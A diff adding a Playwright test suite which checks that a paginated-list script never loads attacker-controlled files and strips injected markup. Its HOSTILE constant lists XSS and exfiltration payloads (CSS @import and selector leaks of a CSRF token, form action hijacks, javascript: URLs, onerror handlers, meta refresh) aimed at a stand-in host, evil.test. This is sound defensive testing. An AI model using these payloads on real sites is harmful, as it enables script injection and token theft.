@@ -1,0 +1,238 @@
+import type { Page, Route } from 'playwright/test'
+import { expect, test } from '../harness'
+import { loopsMounted } from '../loop/loop-site'
+
+/**
+ * Lists whose next page is whatever a file of the site says. What an author can write into a page are attributes, classes, ids and links; a file
+ * is what somebody could upload.
+ */
+const EVIL = 'https://evil.test'
+const settings = (pagination_type: string, more = {}) => `data-settings='${JSON.stringify({ pagination_type, ...more })}'`
+const anchor = (next: string, max = '2', page = '1') =>
+  `<div class="e-load-more-anchor" data-page="${page}" data-max-page="${max}" data-next-page="${next}"></div>`
+const byHand = (items: string, after: string, type = 'load_more_on_click') =>
+  `<div data-widget="posts" id="L" ${settings(type)}><ul data-loop-items>${items}</ul>${after}</div>`
+const builders = (items: string, after: string, type = 'load_more_infinite_scroll', more = {}) =>
+  `<div class="elementor-element elementor-element-l00p111 elementor-widget" data-id="l00p111" data-element_type="widget" data-widget_type="loop-grid.post" ${settings(type, more)}><div class="elementor-widget-container"><div class="elementor-loop-container">${items}</div>${after}</div></div>`
+const item = (text: string, content = '') => `<div class="e-loop-item e-loop-item-${text.length}"><h2>${text}</h2>${content}</div>`
+
+/** What reaches somebody else, or changes the page around the list. */
+const HOSTILE = `<style>@import "${EVIL}/import.css";html:has(input[value^=s3]) #bg{background:url(${EVIL}/leak-s3)}</style>
+<style id="loop-dynamic-9">@import "${EVIL}/dynamic.css";body{display:none}</style><style id="loop-dynamic-8">@\\69mport "${EVIL}/hidden.css";</style>
+<svg><style>#bg{background:url(${EVIL}/svg.css)}</style><use href="/uploads/evil.svg#x"></use><a href="#"><animate attributeName="href" values="javascript:xss()"></animate><set attributeName="xlink:href" to="javascript:xss()"></set></a></svg>
+<link rel="stylesheet" href="${EVIL}/link.css"><link rel="preload" as="image" href="${EVIL}/preload"><link rel="dns-prefetch" href="//evil.test"><meta http-equiv="refresh" content="0;url=${EVIL}/refresh"><base href="${EVIL}/base/">
+<form id="f" action="${EVIL}/form" method="post"><input name="pw"><input name="attributes"><button id="go" formaction="${EVIL}/formaction">go</button><input type="image" formaction="${EVIL}/image" alt=""></form>
+<button id="js" form="f" formaction="javascript:xss()">x</button>
+<iframe src="${EVIL}/frame"></iframe><iframe src="/uploads/evil.svg"></iframe><iframe srcdoc="<p>x</p>"></iframe><iframe class="lazyload" data-src="${EVIL}/lazy"></iframe><iframe src="data:text/html,x"></iframe>
+<object data="${EVIL}/object"></object><embed src="${EVIL}/embed"><script>xss()</script><img src="x:" onerror="xss()" alt="">
+<a id="ping" href="#x" ping="${EVIL}/ping" attributionsrc="${EVIL}/attribution">p</a><a href="java&#10;script:xss()">j</a>
+<template><style>#bg{background:url(${EVIL}/template)}</style><img src="x:" onerror="xss()" alt=""></template><video poster="x:" onloadstart="xss()"></video><math><maction xlink:href="javascript:xss()">m</maction></math>`
+
+interface Site {
+  asked: string[]
+  files: string[]
+}
+/** A page at `/own/`, without a policy that would help, and files of the site; everything that is asked of somebody else is noted. */
+async function site(page: Page, body: string, files: (url: URL) => Parameters<Route['fulfill']>[0] | undefined): Promise<Site> {
+  const asked: string[] = []
+  const seen: string[] = []
+  page.on('request', (request) => {
+    if (request.url().includes('evil.test')) asked.push(request.url())
+  })
+  await page.route(`${EVIL}/**`, (route) => route.fulfill({ contentType: 'text/css', body: '' }))
+  await page.route(/\/(own|uploads)\//, (route) => {
+    const url = new URL(route.request().url())
+    const answer = route.request().isNavigationRequest() && route.request().frame() === page.mainFrame() ? undefined : files(url)
+    if (answer) seen.push(url.pathname + url.search)
+    return route.fulfill(
+      answer ?? {
+        contentType: 'text/html; charset=utf-8',
+        body: `<!doctype html><html lang="en"><head><title>t</title><link rel="icon" href="data:,"><script defer src="/skerry.js"></script></head><body><input type="hidden" name="csrf" value="s3cret"><div id="bg"></div>${body}</body></html>`,
+      },
+    )
+  })
+  await page.addInitScript(() => Object.assign(window, { xss: () => Object.assign(window, { hasRun: true }) }))
+  await page.goto('/own/')
+  await loopsMounted(page)
+  return { asked, files: seen }
+}
+const html = (body: string, headers = {}) => ({ contentType: 'text/html; charset=utf-8', headers, body })
+const text = (body: string) => ({ contentType: 'text/plain', headers: { 'x-content-type-options': 'nosniff' }, body })
+/** Lets everything that was asked for come, and what follows from it. */
+const settle = (page: Page) =>
+  page.evaluate(async () => {
+    for (let i = 0; i < 10; i++) await new Promise((done) => requestAnimationFrame(done))
+  })
+
+for (const [what, list, path] of [
+  [
+    'a hand-written list that has the builder’s attributes',
+    byHand('<li data-loop-item>1</li>', anchor('/uploads/note.txt'), 'load_more_infinite_scroll'),
+    undefined,
+  ],
+  ['a list of the builder’s', builders(item('one'), anchor('/uploads/note.txt')), undefined],
+  ['a list of the builder’s, as a page,', builders(item('one'), anchor('/uploads/note.html')), undefined],
+  ['a list of the builder’s whose item prints where it goes on', builders(item('one', anchor('/own/?e-page-l00p111=2')), ''), undefined],
+] as const)
+  test(`${what} asks for no file that an attribute names`, async ({ page, problems }) => {
+    const { asked, files } = await site(page, list, (url) =>
+      url.pathname.startsWith('/uploads/') || url.search ? html(list + HOSTILE) : path,
+    )
+    await settle(page)
+    expect(files).toEqual([])
+    expect(asked).toEqual([])
+    expect(problems('data-next-page: expected the address of page 2 of this page')).toEqual([])
+  })
+
+for (const [what, answer] of [
+  ['a text', text(byHand('<li data-loop-item>2</li>', ''))],
+  ['a drawing', { contentType: 'image/svg+xml', body: byHand('<li data-loop-item>2</li>', '') }],
+  ['a download', html(byHand('<li data-loop-item>2</li>', ''), { 'content-disposition': 'attachment; filename=x.html' })],
+  [
+    'a page that is to be shut in',
+    html(byHand('<li data-loop-item>2</li>', ''), { 'content-security-policy': "default-src 'none'; sandbox" }),
+  ],
+  ['another kind of page', { contentType: 'application/xhtml+xml', body: byHand('<li data-loop-item>2</li>', '') }],
+  ['a name that only begins like a page', { contentType: 'text/html-sandboxed', body: byHand('<li data-loop-item>2</li>', '') }],
+] as const)
+  test(`a list takes nothing out of ${what}`, async ({ page, problems }) => {
+    const { files } = await site(page, byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/uploads/note">More</a>'), (url) =>
+      url.pathname === '/uploads/note' ? answer : undefined,
+    )
+    await page.getByRole('link', { name: 'More' }).click()
+    await expect.poll(problems).toEqual([expect.stringContaining('expected a page from')])
+    expect(files).toEqual(['/uploads/note'])
+    await expect(page.locator('[data-loop-item]')).toHaveText(['1'])
+  })
+
+const next = (shape: 'hand' | 'builder', content: string) =>
+  shape === 'hand'
+    ? byHand(`<li data-loop-item class="added"><h2>two</h2>${content}</li>`, '')
+    : builders(`<div class="e-loop-item e-loop-item-2 added"><h2>two</h2>${content}</div>`, anchor('', '2', '2'))
+for (const [what, list, shape] of [
+  ['a hand-written list appends', byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/own/?2">More</a>'), 'hand'],
+  [
+    'a hand-written list shows in its place',
+    `<div data-widget="posts" id="L" ${settings('numbers', { pagination_load_type: 'ajax' })}><ul data-loop-items><li data-loop-item>1</li></ul><a data-loop-page href="?2">More</a></div>`,
+    'hand',
+  ],
+  [
+    'the builder’s list appends',
+    builders(
+      item('one'),
+      `${anchor('/own/?e-page-l00p111=2')}<a href="#" class="elementor-button" role="button">More</a>`,
+      'load_more_on_click',
+    ),
+    'builder',
+  ],
+  [
+    'the builder’s list shows in its place',
+    builders(
+      item('one'),
+      `${anchor('/own/?e-page-l00p111=2')}<nav><a class="page-numbers" href="/own/?e-page-l00p111=2">More</a></nav>`,
+      'numbers',
+      { pagination_load_type: 'ajax' },
+    ),
+    'builder',
+  ],
+] as const)
+  test(`of the page that ${what} nothing reaches another site, or the page around the list`, async ({ page, problems }) => {
+    const { asked } = await site(page, list, (url) => (url.search ? html(next(shape, HOSTILE)) : undefined))
+    await page.getByText('More').click()
+    await expect(page.locator('.added')).toBeAttached()
+    await settle(page)
+    await expect(page.locator('.added h2')).toHaveText('two')
+    await page.locator('#ping').click()
+    expect(asked).toEqual([])
+    const bad =
+      'style,link:not(head>link),meta:not(head>*),base,object,embed,script:not(head>script),iframe[src],iframe[data-src],iframe[srcdoc],animate,set,use,[ping],[attributionsrc],[onerror],[onloadstart],[formaction],form[action],[href^=java i]'
+    expect(await page.locator(bad).evaluateAll((all) => all.map((el) => el.outerHTML))).toEqual([])
+    const inTemplate = await page.locator('template').evaluateAll((all) => all.map((el) => (el as HTMLTemplateElement).innerHTML).join())
+    expect(inTemplate).not.toMatch(/onerror|<style/)
+    expect(await page.evaluate(() => 'hasRun' in window)).toBe(false)
+    // The picture without an address.
+    expect(problems('ERR_UNKNOWN_URL_SCHEME')).toEqual([])
+  })
+
+test('what the served list has, its next page may have, too', async ({ page, problems }) => {
+  const content = (n: number) =>
+    `<style id="loop-dynamic-${n}">.e-loop-item h2{color:rgb(0,128,0)}</style><iframe src="${EVIL}/player/${n}"></iframe><form action="${EVIL}/subscribe/${n}"></form><form action="/own/cart"></form><svg><use href="/icons.svg#${n}"></use><use href="#local"></use></svg>`
+  await page.route('**/icons.svg', (route) =>
+    route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"></svg>' }),
+  )
+  await site(
+    page,
+    builders(
+      item('one', content(1)),
+      `${anchor('/own/?e-page-l00p111=2')}<a href="#" class="elementor-button" role="button">More</a>`,
+      'load_more_on_click',
+    ),
+    (url) => (url.search.includes('e-page') ? html(next('builder', content(2))) : undefined),
+  )
+  await page.getByRole('button', { name: 'More' }).click()
+  const added = page.locator('.added')
+  await expect(added.locator('h2')).toHaveCSS('color', 'rgb(0, 128, 0)')
+  expect(
+    await added.evaluate((el) => [...el.querySelectorAll('iframe[src],form[action],use[href],style')].map((each) => each.localName)),
+  ).toEqual(['style', 'iframe', 'form', 'form', 'use', 'use'])
+  expect(problems()).toEqual([])
+})
+
+for (const [what, list, answer] of [
+  [
+    'pages have no items',
+    builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
+    (n: number) => builders('', anchor(`/own/?e-page-l00p111=${n + 1}`, '900000', String(n))),
+  ],
+  [
+    'number of pages is none',
+    builders(item('one'), anchor('/own/?e-page-l00p111=2', '1e12')),
+    (n: number) => builders(item('more'), anchor(`/own/?e-page-l00p111=${n + 1}`, '1e12', String(n))),
+  ],
+  [
+    'pages are all the first one',
+    builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
+    () => builders(item('one'), anchor('/own/?e-page-l00p111=2', '900000')),
+  ],
+  [
+    'links go round',
+    byHand('<li data-loop-item>1</li>', '<a data-loop-more href="/own/?2">More</a>', 'load_more_infinite_scroll'),
+    (n: number) => byHand('<li data-loop-item>x</li>', `<a data-loop-more href="/own/?${n === 2 ? 3 : 2}">More</a>`),
+  ],
+] as const)
+  test(`a list whose ${what} comes to an end by itself`, async ({ page, problems }) => {
+    const { files } = await site(page, list, (url) => (url.search ? html(answer(Number(/\d+$/.exec(url.search)?.[0]))) : undefined))
+    await settle(page)
+    const ends = what === 'number of pages is none' ? 0 : what === 'links go round' ? 2 : 1
+    await expect.poll(() => files.length).toBe(ends)
+    await expect(page.locator('.e-load-more-pagination-end')).toBeAttached()
+    await settle(page)
+    expect(files.length).toBe(ends)
+    expect(problems()).toEqual([])
+  })
+
+const filter = (base: string) =>
+  `<div class="elementor-element" data-id="f1lt111" data-element_type="widget" data-widget_type="taxonomy-filter.default" data-settings='{"selected_element":"l00p111","taxonomy":"category"}'><div class="elementor-widget-container"><div class="e-filter" data-base-url="${base}" data-page-num="2"><button class="e-filter-item" data-filter="a" aria-pressed="false">a</button></div></div></div>`
+
+test('the route of the CMS is believed only where it answers with JSON', async ({ page, problems }) => {
+  await page.route('**/wp-json/**', (route) =>
+    route.fulfill({ contentType: 'text/plain', body: JSON.stringify({ data: '<div class="elementor-widget-container">taken</div>' }) }),
+  )
+  await site(page, filter('/own/') + builders(item('one'), '', 'numbers'), () => undefined)
+  await page.getByRole('button', { name: 'a' }).click()
+  await expect.poll(problems).toEqual([expect.stringMatching(/expected \{"data": "<div …>"\}/)])
+  await expect(page.locator('.e-loop-item h2')).toHaveText('one')
+})
+
+test('a filter’s own address is one of this site, whatever its attribute says', async ({ page, problems }) => {
+  const sent: string[] = []
+  await page.route('**/wp-json/**', (route) => {
+    sent.push(route.request().postDataJSON().pagination_base_url)
+    return route.fulfill({ json: { data: '<div class="elementor-widget-container">taken</div>' } })
+  })
+  await site(page, filter(`${EVIL}/`) + builders(item('one'), '', 'numbers'), () => undefined)
+  await page.getByRole('button', { name: 'a' }).click()
+  await expect(page.getByText('taken')).toBeVisible()
+  expect(sent).toEqual([page.url()])
+  expect(problems()).toEqual([])
+})
